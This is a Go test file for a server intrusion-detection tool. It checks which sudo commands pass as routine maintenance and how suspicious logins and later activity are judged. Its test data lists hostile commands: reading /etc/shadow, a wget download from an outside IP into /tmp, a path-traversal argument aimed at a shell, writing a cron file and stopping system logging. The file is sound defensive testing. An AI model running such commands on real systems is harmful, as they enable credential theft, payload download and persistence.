package story

import (
	"testing"

	"telltale/detect"
)

func TestMaintains(t *testing.T) {
	for command, want := range map[string]bool{
		"/usr/bin/systemctl restart apache2": true, "/usr/bin/apt-get upgrade": true, "/usr/sbin/service nginx reload": true, "/bin/ls /root": true,
		"": false, "/bin/bash": false, "/usr/bin/systemctl stop rsyslog": false, "/usr/bin/systemctl edit ssh": false, "/usr/bin/apt-get install nmap": false, "/usr/bin/tee /etc/cron.d/x": false,
		"/tmp/ls": false, "systemctl": false, "/usr/sbin/service ../../bin/sh": false, "/usr/bin/less /var/log/syslog": false, "/bin/cat /etc/shadow": false,
	} {
		if maintains(command) != want {
			t.Errorf("%q: %v", command, !want)
		}
	}
}

// TestMistyped: somebody who tried his own password again and again and then looked after the server is asked, not accused.
func TestMistyped(t *testing.T) {
	typed := login(detect.GuessedIn, "amy", "203.0.113.6", "password", "03:00:00", "03:10:00", detect.Access{FailedHere: 8, FailedAddress: 8, TriedAccounts: 1, NewAddress: true})
	typed.Level = detect.High
	for _, tc := range []struct {
		runs, status string
	}{
		{"/usr/bin/systemctl restart apache2", string(CannotTell)}, {"/bin/bash", string(CannotTell)}, {"/usr/bin/wget http://203.0.113.9/x -O /tmp/x", Compromised},
	} {
		s := Build(t.Context(), []detect.Finding{typed, with(sudo("amy", "03:01:00"), func(f *detect.Finding) { f.Runs = tc.runs })}, full())
		check(t, &s)
		if s.Verdict.Status != tc.status || (len(s.Actors) > 0) != (tc.status == Compromised) {
			t.Errorf("%s: %+v %+v", tc.runs, s.Verdict, s.Actors)
		}
	}
	s := Build(t.Context(), []detect.Finding{guessed("03:00:00", "03:10:00"), with(sudo("bob", "03:01:00"), func(f *detect.Finding) { f.Runs = "/bin/ls /root" })}, full())
	if s.Verdict.Status != Compromised || s.Verdict.Root == nil {
		t.Errorf("after real guessing: %+v", s.Verdict)
	}
}

// TestSentAfter: what the owner had sent before the intruder came is not the intruder's, even where not all times are kept.
func TestSentAfter(t *testing.T) {
	s := &suspect{spans: []span{{from: at("03:00:00"), to: at("04:00:00")}}}
	f := mailed("01:00:00", "02:00:00", "03:00:01", "03:00:02")
	f.Count = 100
	if n, from := sent(&f, s); n != 98 || from != at("03:00:01") {
		t.Errorf("%d from %s", n, from)
	}
}
